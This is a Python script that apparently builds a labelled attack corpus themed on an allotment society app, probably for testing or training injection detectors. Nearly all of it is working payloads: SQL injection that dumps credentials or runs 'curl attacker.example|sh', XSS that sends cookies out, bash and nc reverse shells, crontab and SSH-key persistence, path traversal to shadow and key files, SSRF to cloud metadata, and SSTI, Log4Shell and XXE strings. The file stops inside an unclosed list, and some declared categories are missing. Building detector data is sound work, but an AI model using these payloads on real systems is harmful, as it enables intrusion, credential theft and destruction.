#!/usr/bin/env python3
"""Attack corpus for the allotments theme (allotment society app).

Standard library only. Each literal line is "class ¦ value", written by hand.
Markers inside values: U+240D stands for CR, U+240A for LF.
The small templated part only joins a hand-written theme prefix to a
hand-written payload, or applies exactly one encoding to one, using
random.Random(SEED).
"""
import json
import os
import random
from urllib.parse import quote

SEED = 22902
PREFIX = "hahl"
SEP = " \u00a6 "
CR, LF = "\u240d", "\u240a"

TARGET = {"sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50,
          "code": 80, "nosqli": 27, "crlf": 30, "ldap-xpath": 20}
ORDER = list(TARGET)

L = {}

L["sqli"] = r'''
note-union-select ¦ Plot 14B weeded, onions in' UNION SELECT username, password_hash FROM members-- 
invoice-ref-boolean ¦ INV-2024-0117' OR '1'='1
plot-number-numeric ¦ 14 OR 1=1
note-mysql-sleep ¦ Trough C leaking again' AND SLEEP(5)-- -
note-pg-sleep-stacked ¦ plot 7 overgrown'; SELECT pg_sleep(10)--
waitlist-mssql-waitfor ¦ WL-2024-0193'; WAITFOR DELAY '0:0:7'--
seed-oracle-dbms-pipe ¦ 'Crimson Flowered' broad bean' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('q',6)--
search-sqlite-master ¦ onions' UNION SELECT name, sql FROM sqlite_master--
note-mysql-extractvalue ¦ Shed roof felt' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT password FROM members LIMIT 1)))-- -
rota-mysql-updatexml ¦ Sat 10-12 Gwen' AND UPDATEXML(1, CONCAT(0x3a, (SELECT email FROM committee LIMIT 0,1)), 1)-- -
minutes-stacked-drop ¦ Item 4: matters arising'; DROP TABLE plots;--
note-pg-cast-error ¦ Plot 31 second notice' AND 1=CAST((SELECT string_agg(email, ',') FROM members) AS int)--
invoice-mssql-convert ¦ INV-2024-0212' AND 1=CONVERT(int, (SELECT TOP 1 password FROM members))--
search-comment-as-space ¦ bindweed'/**/UNION/**/SELECT/**/email,password/**/FROM/**/members#
search-case-mixing ¦ blight' uNiOn SeLeCt null, version()-- -
note-mysql-versioned-comment ¦ Plot 9 glass moved' /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3-- -
search-order-by-probe ¦ plot 14' ORDER BY 7-- -
rota-mysql-benchmark ¦ swap with Alan' AND BENCHMARK(5000000,MD5('x'))#
note-blind-if-sleep ¦ Plot 22a' AND IF(SUBSTRING((SELECT password FROM members WHERE id=1),1,1)='a',SLEEP(4),0)-- -
note-mysql-into-outfile ¦ Nice courgettes' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -
search-mysql-load-file ¦ seed swap' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -
invoice-mssql-xp-cmdshell ¦ INV-2024-0117'; EXEC master..xp_cmdshell 'ping 203.0.113.7'--
note-pg-copy-program ¦ Plot 40 membrane'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--
seed-oracle-utl-http ¦ Sungold' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '
waitlist-mssql-xp-dirtree ¦ Siobhan'; EXEC master..xp_dirtree '\\attacker.example\share'--
note-insert-subquery ¦ Lovely plot', (SELECT password FROM members WHERE role='treasurer'))-- 
profile-update-injection ¦ Gwen', is_admin=1 WHERE email='gwen.h@example.org'-- 
plot-number-having ¦ 12 HAVING 1=1
search-group-by-having ¦ compost' GROUP BY plot_no HAVING 1=1--
search-mysql-hex-literal ¦ rota' UNION SELECT 1,0x61646d696e-- -
login-char-function ¦ x' OR username=CHAR(97,100,109,105,110)-- 
search-like-wildcard ¦ chickens' OR email LIKE '%@%'-- 
search-no-space-parens ¦ leeks'OR(1)=(1)#
note-subquery-count ¦ Plot 14B' AND (SELECT COUNT(*) FROM members)>0 AND 'a'='a
search-sqlite-pragma ¦ skip hire' AND 1=(SELECT 1 FROM pragma_table_info('members') LIMIT 1)--
waitlist-doublequote-boolean ¦ Mill Road" OR "1"="1
note-backslash-escape ¦ Plot 14\' OR 1=1-- 
seed-pg-dollar-quote ¦ Kale'; SELECT $$x$$ || pg_read_file('/etc/passwd')--
rota-pg-case-sleep ¦ Kasia'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'
search-oracle-v-version ¦ minutes' UNION SELECT banner, NULL FROM v$version--
search-information-schema ¦ agm' UNION SELECT table_name, NULL FROM information_schema.tables--
invoice-mysql-xor-sleep ¦ rent' XOR SLEEP(5) XOR '
sort-param-case ¦ plot_no,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)
sort-param-blind ¦ (CASE WHEN (SELECT substr(password,1,1) FROM members LIMIT 1)='a' THEN plot_no ELSE rent END)
limit-mysql-procedure-analyse ¦ 10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)
search-union-urlencode ¦ tomato%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20members--%20
search-boolean-double-urlencode ¦ rhubarb%2527%2520OR%25201%253D1--
note-fullwidth-quote ¦ Plot 14B＇ OR 1=1--
api-json-unicode-escape ¦ Plot 7\u0027 OR \u00271\u0027=\u00271
search-hash-comment-newline ¦ shed key' OR 1=1#␊
plain-login-comment ¦ admin'--
plain-empty-string-boolean ¦ ' OR ''='
note-union-all-concat ¦ Plot 3 bonfire' AND 1=2 UNION ALL SELECT NULL,NULL,NULL,CONCAT(user(),0x3a,database())-- -
search-sqlite-randomblob ¦ fox' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--
minutes-mssql-insert-admin ¦ Apologies: T. Hughes'; INSERT INTO committee(email,role) VALUES('x@attacker.example','chair')--
minutes-pg-alter-user ¦ Carried 5-1'; ALTER USER postgres WITH PASSWORD 'placeholder-pw'--
search-group-concat-columns ¦ invoices' UNION SELECT GROUP_CONCAT(column_name),2 FROM information_schema.columns WHERE table_name='members'-- -
plot-number-mysql-inline-comment ¦ 14/*!UNION*//*!SELECT*/password/*!FROM*/members
search-newline-as-space ¦ trough'␊OR␊1=1␊--␊
note-oracle-ctxsys ¦ Plot 44 trees' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--
plot-number-mssql-stacked ¦ 14; SELECT name FROM sys.databases--
search-pg-string-agg ¦ compost' UNION SELECT NULL,string_agg(usename,',') FROM pg_user--
invoice-mssql-ascii-blind ¦ Invoice 0117' AND ASCII(SUBSTRING((SELECT TOP 1 password FROM members),1,1))>64--
note-mysql-elt-sleep ¦ Plot 12 water butt' AND ELT(1=1,SLEEP(3))-- -
search-oracle-rownum ¦ rota' AND 1=(SELECT COUNT(*) FROM all_users WHERE ROWNUM=1 AND username LIKE 'S%')--
search-between ¦ half plot' OR plot_no BETWEEN 1 AND 999-- 
rota-concat-sleep ¦ Swap with Alan'+(SELECT SLEEP(5))+'
seed-oracle-concat-boolean ¦ Boltardy'||'1'='1
invoice-pg-version-error ¦ INV-2024-0300' AND 1=(SELECT CAST(version() AS numeric))--
waitlist-mysql-rlike-sleep ¦ Priya Nair' RLIKE SLEEP(3)-- -
'''

L["xss"] = r'''
note-script-cookie ¦ Plot 14B looks great <script>fetch('https://attacker.example/c?'+document.cookie)</script>
plain-img-onerror ¦ <img src=x onerror=alert(document.domain)>
chat-svg-onload ¦ Check out my pumpkin <svg onload=alert(1)>
chat-svg-slash ¦ Morning all!<svg/onload=confirm(1)>
attr-breakout-script-src ¦ Gwen"><script src=https://attacker.example/x.js></script>
attr-single-quote-img ¦ GreenFingers'><img src=1 onerror=alert(1)>
note-body-onload ¦ Rota wk 27 <body onload=alert(document.cookie)>
note-iframe-javascript ¦ <iframe src="javascript:alert(1)"></iframe> see rota
markdown-html-anchor-javascript ¦ Updated <a href="javascript:alert(document.cookie)">rota sheet</a> here
href-entity-tab ¦ <a href="jav&#x09;ascript:alert(1)">Seed list v3</a>
href-decimal-entities ¦ <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">minutes</a>
note-details-ontoggle ¦ Plot 7 photos <details open ontoggle=alert(1)>
note-input-autofocus ¦ <input autofocus onfocus=alert(1)> shed key
note-video-source-onerror ¦ Timelapse of my beans <video><source onerror=alert(1)></video>
note-audio-onerror ¦ <audio src=x onerror=alert(1)>
note-object-data-base64 ¦ <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
note-embed-javascript ¦ <embed src="javascript:alert(1)">
mxss-math-style ¦ <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
mxss-noscript-title ¦ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
svg-animate-onbegin ¦ <svg><animate onbegin=alert(1) attributeName=x dur=1s>
invoice-form-action ¦ <form action=javascript:alert(1)><button>Pay rent £48</button></form>
button-formaction ¦ <form><button formaction=javascript:alert(1)>Confirm swap</button></form>
meta-refresh-phish ¦ <meta http-equiv="refresh" content="0;url=https://attacker.example/login">
base-href-hijack ¦ <base href="https://attacker.example/">
js-string-single-quote ¦ Plot 14B';alert(document.cookie);//
js-string-double-quote-minus ¦ Gwen"-alert(1)-"
js-close-script ¦ Rota</script><script>alert(1)</script>
js-string-backslash ¦ Sue\";alert(1);//
js-template-literal ¦ Shed rota ${alert(document.domain)}
angular-csti ¦ Plot {{constructor.constructor('alert(1)')()}}
vue-csti ¦ Seed swap {{_c.constructor('alert(1)')()}}
img-onerror-entities ¦ <img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">
img-case-mixing ¦ <IMG SRC=x oNeRrOr=alert(1)>
script-case-mixing ¦ <ScRiPt>alert(1)</sCrIpT>
nested-strip-bypass ¦ <scr<script>ipt>alert(1)</scr</script>ipt>
note-script-urlencode ¦ Plot 14B %3Cscript%3Ealert(1)%3C%2Fscript%3E
svg-double-urlencode ¦ %253Csvg%2520onload%253Dalert(1)%253E
entity-double-decode ¦ Minutes &lt;img src=x onerror=alert(1)&gt;
json-unicode-escape ¦ \u003cimg src=x onerror=alert(1)\u003e
fullwidth-nfkc ¦ ＜script＞alert(1)＜/script＞
iis-percent-u ¦ %u003Csvg onload=alert(1)%u003E
overlong-utf8 ¦ %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
svg-script-entity ¦ <svg><script>alert&#40;1&#41;</script></svg>
img-atob-eval ¦ <img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>
img-string-concat ¦ <img src=x onerror=window['al'+'ert'](1)>
svg-settimeout-concat ¦ <svg onload=setTimeout('ale'+'rt(1)')>
img-regex-source ¦ <img src=x onerror=top[/al/.source+/ert/.source](1)>
css-import-exfil ¦ <style>@import 'https://attacker.example/x.css';</style>
link-stylesheet-exfil ¦ <link rel=stylesheet href=https://attacker.example/steal.css>
custom-tag-pointer ¦ <x onpointerover=alert(1)>hover for the rota</x>
note-p-onmouseover ¦ <p onmouseover="alert(1)">Plot 14B</p>
iframe-srcdoc ¦ <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
svg-xlink-href ¦ <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>rota</text></a></svg>
profile-website-javascript ¦ javascript:alert(document.domain)
profile-website-case ¦ JaVaScRiPt:alert(1)
profile-website-data-uri ¦ data:text/html,<script>alert(1)</script>
attr-autofocus-breakout ¦ Plot 14B" autofocus onfocus=alert(1) x="
attr-single-onmouseover ¦ Gwen' onmouseover='alert(1)
attr-onfocusin ¦ Sue" onfocusin=alert(1) autofocus tabindex=1 x="
markdown-link-javascript ¦ See [the rota](javascript:alert(1))
markdown-image-breakout ¦ ![plot 14B](x" onerror="alert(1))
textarea-breakout ¦ </textarea><script>alert(1)</script>
title-breakout ¦ Minutes</title><script>alert(1)</script>
comment-breakout ¦ <!--><img src=x onerror=alert(1)>-->
img-newline-attr ¦ <img src="x"␊onerror=alert(1)>
img-slash-separators ¦ <img/src/onerror=alert(1)>
svg-tab-urlencode ¦ <svg%09onload=alert(1)>
iframe-phish-overlay ¦ Pay here: <iframe src=https://attacker.example/pay width=100% height=100%></iframe>
script-image-beacon ¦ <script>new Image().src='//attacker.example/k?c='+encodeURIComponent(document.cookie)</script>
script-localstorage ¦ <script>document.write('<img src=//attacker.example/'+localStorage.token+'>')</script>
img-tagged-template ¦ <img src onerror=alert`1`>
svg-dynamic-import ¦ <svg onload=import('//attacker.example/m.js')>
select-autofocus ¦ <select autofocus onfocus=alert(1)></select>
href-hex-entity-j ¦ <a href="&#x6A;avascript:alert(1)">invoice</a>
'''

L["cmdi"] = r'''
filename-semicolon ¦ Plot 14B photo.jpg; cat /etc/passwd
export-pipe-nc ¦ rota_2024.csv | nc attacker.example 4444
filename-and-curl-sh ¦ seedlist.pdf && curl http://attacker.example/s.sh | sh
plain-dollar-paren ¦ $(id)
plain-backtick ¦ `whoami`
filename-dollar-curl ¦ photo14b.jpg$(curl -s attacker.example/x|bash)
host-or-ping ¦ 203.0.113.1 || ping -c 3 203.0.113.9
note-sleep-comment ¦ Trough C; sleep 10 #
windows-ping-timing ¦ invoice.pdf & ping -n 10 127.0.0.1 &
windows-type-winini ¦ minutes.docx | type C:\Windows\win.ini
powershell-iex-download ¦ rota.xlsx & powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')"
powershell-encoded ¦ seeds.csv & powershell -enc dwBoAG8AYQBtAGkA
newline-urlencode ¦ plot14b.jpg%0Aid
newline-raw ¦ plot14b.jpg␊id
ifs-space ¦ rota.csv;cat${IFS}/etc/passwd
brace-expansion ¦ seeds.csv;{cat,/etc/passwd}
quote-insertion ¦ invoice.pdf;c'a't /et'c'/pas's'wd
glob-wildcards ¦ minutes.pdf;/???/c?t /???/p?ss??
empty-var-insertion ¦ plot.png;cat$u /etc$u/passwd
base64-pipe-sh ¦ rota.csv; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh
reverse-shell-bash ¦ photo.jpg; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
reverse-shell-nc ¦ seeds.txt; nc -e /bin/sh 198.51.100.23 9001
python-os-system ¦ rota.csv; python3 -c 'import os;os.system("id")'
perl-system ¦ export.csv; perl -e 'system("id")'
wget-pipe-sh ¦ plot.jpg; wget -qO- http://attacker.example/a | sh
destructive-rm ¦ backup.tar.gz; rm -rf /var/www/uploads/*
tar-checkpoint-argument ¦ --checkpoint=1 --checkpoint-action=exec=sh shell.sh
curl-output-argument ¦ -o /var/www/html/shell.php http://attacker.example/shell.txt
curl-upload-argument ¦ -T /etc/passwd http://attacker.example/up
wget-post-file-argument ¦ --post-file=/etc/shadow http://attacker.example/
git-upload-pack-argument ¦ --upload-pack=touch /tmp/pwned
git-ext-transport ¦ ext::sh -c touch% /tmp/pwned
ssh-proxycommand-argument ¦ -oProxyCommand=curl attacker.example|sh
find-exec-argument ¦ plot14b -o -exec id {} +
zip-tt-argument ¦ -T -TT 'sh -c id #'
sendmail-x-argument ¦ gwen@example.org -X/var/www/html/x.php -OQueueDirectory=/tmp
rsync-e-argument ¦ -e 'sh -c id' backup@198.51.100.3:/plots
windows-certutil ¦ invoice.pdf & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe
windows-net-user ¦ rota.xlsx | net user helper Placeholder1! /add
windows-whoami-priv ¦ minutes.docx & whoami /priv
windows-quoted-dir ¦ seeds" & dir C:\ & "
windows-caret-obfuscation ¦ photo.jpg & who^am^i
windows-comspec ¦ rota.csv & %COMSPEC% /c whoami
powershell-string-breakout ¦ Plot 14B'; Get-Content C:\inetpub\wwwroot\web.config; '
powershell-iwr-iex ¦ seeds.csv; iex (iwr http://attacker.example/a.ps1 -UseBasicParsing)
powershell-backtick-obfuscation ¦ rota.csv; i`e`x (n`ew-obj`ect Net.WebClient).DownloadString('http://attacker.example/b')
subshell-sleep ¦ Trough C $(sleep 7)
backtick-sleep ¦ Shed note `sleep 7`
pipe-ifs-sleep ¦ plot.jpg|sleep${IFS}5
ping-urlencode ¦ 14b.jpg;ping%20-c%203%20203.0.113.4
semicolon-urlencode ¦ rota.csv%3Bid%3B
and-urlencode ¦ seeds.csv%26%26%20whoami
proc-environ ¦ invoice.pdf; cat /proc/self/environ
env-exfil-curl ¦ rota.csv; env | curl -d @- http://attacker.example/e
dns-exfil-nslookup ¦ plot.jpg; nslookup $(whoami).attacker.example
dns-exfil-dig ¦ seeds.txt; dig +short $(hostname).x.attacker.example
printf-octal ¦ rota.csv;$(printf '\151\144')
echo-hex ¦ plot.jpg;$(echo -e "\x69\x64")
var-concat ¦ invoice.pdf; a=c;b=at;$a$b /etc/shadow
crontab-persistence ¦ rota.csv; (crontab -l; echo '* * * * * curl attacker.example/c|sh') | crontab -
authorized-keys ¦ plot.jpg; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLACEHOLDERKEYNOTREAL attacker' >> ~/.ssh/authorized_keys
suid-bash ¦ seeds.txt; chmod +s /bin/bash
filename-embedded ¦ rota-2024.pdf;id;.pdf
note-nested-subshell ¦ Plot 14B photos $(curl attacker.example/$(whoami))
single-quote-breakout ¦ seeds.csv'; id; echo '
double-quote-breakout ¦ seeds.csv"; id; echo "
backtick-nc-exfil ¦ `nc 203.0.113.7 80 < /etc/passwd`
'''

L["traversal"] = r'''
plain-dotdot ¦ ../../../../etc/passwd
download-dotdot-shadow ¦ ../../../../../../etc/shadow
windows-backslash ¦ ..\..\..\..\Windows\win.ini
urlencode-slash ¦ ..%2f..%2f..%2fetc%2fpasswd
urlencode-full ¦ %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
double-urlencode ¦ ..%252f..%252f..%252fetc%252fpasswd
overlong-dot ¦ %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
overlong-slash ¦ ..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
iis-percent-u-dot ¦ %u002e%u002e/%u002e%u002e/windows/win.ini
strip-once-bypass ¦ ....//....//....//etc/passwd
strip-once-mixed ¦ ..././..././..././etc/passwd
absolute-path ¦ /etc/passwd
windows-absolute ¦ C:\Windows\System32\drivers\etc\hosts
minutes-path-proc-environ ¦ minutes/2024/../../../../proc/self/environ
upload-path-config ¦ uploads/plot14b/../../../app/config/database.yml
log-poison-lfi ¦ ../../../../var/log/nginx/access.log
nullbyte-extension ¦ ../../../../etc/passwd%00.pdf
php-filter-wrapper ¦ php://filter/convert.base64-encode/resource=../config.php
tomcat-path-param ¦ ..;/..;/WEB-INF/web.xml
tomcat-manager ¦ /static/..;/manager/html
java-web-inf ¦ ../../WEB-INF/web.xml
windows-quad-dot ¦ ....\\....\\....\\windows\\win.ini
urlencode-backslash ¦ ..%5c..%5c..%5cwindows%5cwin.ini
urlencode-dot-backslash ¦ %2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini
absolute-webroot-dotdot ¦ /var/www/html/../../../etc/passwd
fullwidth-nfkc ¦ ．．／．．／．．／etc／passwd
fullwidth-slash-utf8-urlencode ¦ ..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd
ssh-key ¦ ../../../../home/treasurer/.ssh/id_rsa
bash-history ¦ ../../../../root/.bash_history
dotenv ¦ ../../.env
proc-cwd ¦ ../../../../../proc/self/cwd/config.py
zip-slip-entry ¦ ../../../../var/www/html/shell.php
photo-path-hosts ¦ photos/../../../../../../etc/hosts
windows-sam-urlencode ¦ ..%2F..%2F..%2F..%2Fwindows%2Fsystem32%2Fconfig%2Fsam
double-slash ¦ ..//..//..//etc//passwd
mixed-dot-encoding ¦ .%2e/.%2e/.%2e/etc/passwd
dot-only-encoding ¦ %2e%2e/%2e%2e/%2e%2e/etc/passwd
percent-u-division-slash ¦ ..%u2215..%u2215..%u2215etc%u2215passwd
static-prefix-encoded ¦ /static/..%2f..%2f..%2fetc/passwd
strip-once-hosts ¦ ....//....//....//....//etc/hosts
escaped-slash ¦ ..\/..\/..\/etc/passwd
windows-forward-webconfig ¦ C:/inetpub/wwwroot/web.config
windows-webconfig-dotdot ¦ ..\..\..\..\..\inetpub\wwwroot\web.config
rota-export-dotdot ¦ exports/rota_2024/../../../../../etc/group
'''

L["ssrf"] = r'''
aws-imds-credentials ¦ http://169.254.169.254/latest/meta-data/iam/security-credentials/
gcp-metadata ¦ http://metadata.google.internal/computeMetadata/v1/?recursive=true
azure-imds ¦ http://169.254.169.254/metadata/instance?api-version=2021-02-01
loopback-admin ¦ http://127.0.0.1:8080/admin
localhost-redis ¦ http://localhost:6379/
gopher-redis ¦ gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron/%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A
dict-memcached ¦ dict://127.0.0.1:11211/stats
file-scheme ¦ file:///etc/passwd
decimal-ip ¦ http://2130706433/
hex-ip ¦ http://0x7f000001/
octal-ip ¦ http://0177.0.0.1/
short-ip ¦ http://127.1/
zero-ip ¦ http://0/
ipv6-loopback ¦ http://[::1]:8000/
ipv6-mapped ¦ http://[::ffff:127.0.0.1]/
ipv6-mapped-imds ¦ http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/
dns-pointing-internal ¦ http://169.254.169.254.attacker.example/latest/meta-data/
userinfo-confusion ¦ https://hambleton-allotments.example.org@169.254.169.254/latest/meta-data/
port-scan-ssh ¦ http://127.0.0.1:22/
internal-elastic ¦ http://10.0.0.5:9200/_cat/indices
internal-router ¦ http://192.168.1.1/cgi-bin/luci
docker-api ¦ http://172.17.0.1:2375/containers/json
kubernetes-secrets ¦ https://kubernetes.default.svc/api/v1/namespaces/default/secrets
consul-kv ¦ http://consul.service.internal:8500/v1/kv/?recurse
consul-agent ¦ http://localhost:8500/v1/agent/self
open-redirect-chain ¦ https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
urlencoded-host ¦ http://%31%32%37%2e%30%2e%30%2e%31/admin
enclosed-alphanumerics ¦ http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/admin
ideographic-dots ¦ http://127。0。0。1/
dotted-hex ¦ http://0x7f.0x0.0x0.0x1/
octal-integer ¦ http://017700000001/
mixed-int-imds ¦ http://169.254.43518/latest/meta-data/
ipv6-unspecified ¦ http://[::]:80/
java-jar-scheme ¦ jar:http://attacker.example/x.jar!/
java-netdoc ¦ netdoc:///etc/passwd
tftp-scheme ¦ tftp://198.51.100.4/rota.cfg
apache-server-status ¦ http://localhost/server-status
etcd-keys ¦ http://127.0.0.1:2379/v2/keys/?recursive=true
ecs-credentials ¦ http://169.254.170.2/v2/credentials/
alibaba-metadata ¦ http://100.100.100.200/latest/meta-data/
aws-imds-ipv6 ¦ http://[fd00:ec2::254]/latest/meta-data/
unc-ntlm-leak ¦ \\attacker.example\share\rota.xlsx
gopher-smtp ¦ gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Cx@attacker.example%3E%0D%0ARCPT%20TO:%3Call@example.com%3E%0D%0ADATA%0D%0ARent%20due%0D%0A.%0D%0A
rabbitmq-api ¦ http://127.0.0.1:15672/api/users
calendar-feed-userdata ¦ http://169.254.169.254/latest/user-data
'''

L["code"] = r'''
ssti-jinja2-cycler ¦ Dear {{ cycler.__init__.__globals__.os.popen('id').read() }}, your rent is due
ssti-jinja2-config-globals ¦ Plot {{ config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read() }}
ssti-jinja2-template-reference ¦ {{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}
ssti-jinja2-subclasses ¦ Rota {{ ''.__class__.__mro__[1].__subclasses__() }}
ssti-jinja2-loop-warning ¦ {% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}
ssti-jinja2-request-app ¦ {{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti-jinja2-attr-filter ¦ {{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}
ssti-jinja2-namespace ¦ Subject: Plot {{ namespace.__init__.__globals__.os.popen('whoami').read() }} second notice
ssti-jinja2-config-leak ¦ Newsletter {{ config.items() }}
ssti-twig-filter-system ¦ {{ ['id']|filter('system') }}
ssti-twig-undefined-filter ¦ {{ _self.env.registerUndefinedFilterCallback("exec") }}{{ _self.env.getFilter("id") }}
ssti-twig-map-passthru ¦ Seed swap {{ ['cat /etc/passwd']|map('passthru')|join }}
ssti-freemarker-assign ¦ <#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
ssti-freemarker-inline ¦ Hello ${"freemarker.template.utility.Execute"?new()("whoami")}
ssti-velocity-runtime ¦ #set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()
ssti-smarty-system ¦ Minutes {system("cat /etc/passwd")}
ssti-mako-import ¦ <% import os %>${os.popen('id').read()}
ssti-erb-backtick ¦ Dear tenant <%= `id` %>
ssti-erb-system ¦ <%= system('cat /etc/passwd') %>
ssti-erb-io-popen ¦ Rota <%= IO.popen('id').readlines() %>
ssti-pug-interpolation ¦ #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('id')}()}
ssti-ejs-require ¦ <%= process.mainModule.require('child_process').execSync('id') %>
ssti-nunjucks-range-constructor ¦ {{ range.constructor("return global.process.mainModule.require('child_process').execSync('id')")() }}
ssti-thymeleaf-preprocess ¦ __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
ssti-tornado-import ¦ {% import os %}{{ os.popen('id').read() }}
ssti-razor-process ¦ @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
ssti-django-debug ¦ Plot notes {% debug %}
ssti-ssi-exec ¦ <!--#exec cmd="id" -->
esi-include ¦ <esi:include src="http://attacker.example/x"/>
spel-runtime ¦ T(java.lang.Runtime).getRuntime().exec('id')
spel-hash-brace ¦ #{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}
spel-getenv ¦ ${T(java.lang.System).getenv()}
ognl-static-method ¦ %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
ognl-process-builder ¦ %{(#p=new java.lang.ProcessBuilder({'id'})).(#p.start())}
java-el-reflection ¦ ${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
mvel-runtime ¦ Runtime.getRuntime().exec("id");
eval-php-system ¦ 1;system('id');
eval-php-concat ¦ Plot 14B'.system('id').'
eval-python-import ¦ __import__('os').system('id')
eval-python-subprocess ¦ __import__("subprocess").check_output(["cat","/etc/passwd"])
eval-node-execsync ¦ require('child_process').execSync('id').toString()
eval-node-readfile ¦ process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval-node-string-breakout ¦ Rota');require('child_process').exec('curl attacker.example|sh');//
eval-ruby-interpolation ¦ Plot #{`id`}
eval-ruby-kernel-open ¦ |curl http://attacker.example/r|sh
log4shell-ldap ¦ Plot 14B ${jndi:ldap://attacker.example:1389/a}
log4shell-rmi ¦ ${jndi:rmi://198.51.100.7:1099/x}
log4shell-lower ¦ Seed swap ${${lower:j}ndi:${lower:l}dap://attacker.example/b}
log4shell-default-value ¦ ${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/c}
log4shell-dns-env ¦ ${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}
log4shell-env-nan ¦ ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/d}
log4shell-sys-nested ¦ User-Agent: AllotApp ${jndi:ldap://${sys:java.version}.attacker.example/e}
proto-pollution-json ¦ {"__proto__": {"isAdmin": true}}
proto-pollution-constructor ¦ {"constructor": {"prototype": {"role": "chair"}}}
proto-pollution-query ¦ __proto__[isCommittee]=true
proto-pollution-ejs-gadget ¦ constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//
proto-pollution-execargv ¦ {"__proto__":{"execArgv":["--eval=require('child_process').execSync('id')"]}}
csv-dde-cmd ¦ =cmd|' /C calc'!A0
csv-hyperlink-exfil ¦ =HYPERLINK("https://attacker.example/?d="&A2&B2,"View rota")
csv-plus-powershell ¦ +cmd|'/c powershell iwr attacker.example/x.ps1|iex'!A1
csv-at-sum-cmd ¦ @SUM(1+1)*cmd|' /C calc'!A0
csv-importxml-exfil ¦ =IMPORTXML(CONCAT("https://attacker.example/?v=", A1:C40), "//a")
csv-webservice ¦ =WEBSERVICE("https://attacker.example/?x="&A1)
csv-libreoffice-dde ¦ =DDE("cmd";"/C calc";"!A0")
xxe-file-entity ¦ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><plots><plot>&x;</plot></plots>
xxe-oob-parameter ¦ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/e.dtd"> %d;]><rota/>
xinclude-text ¦ <plots xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></plots>
xxe-ssrf-imds ¦ <!DOCTYPE x [<!ENTITY y SYSTEM "http://169.254.169.254/latest/meta-data/">]><x>&y;</x>
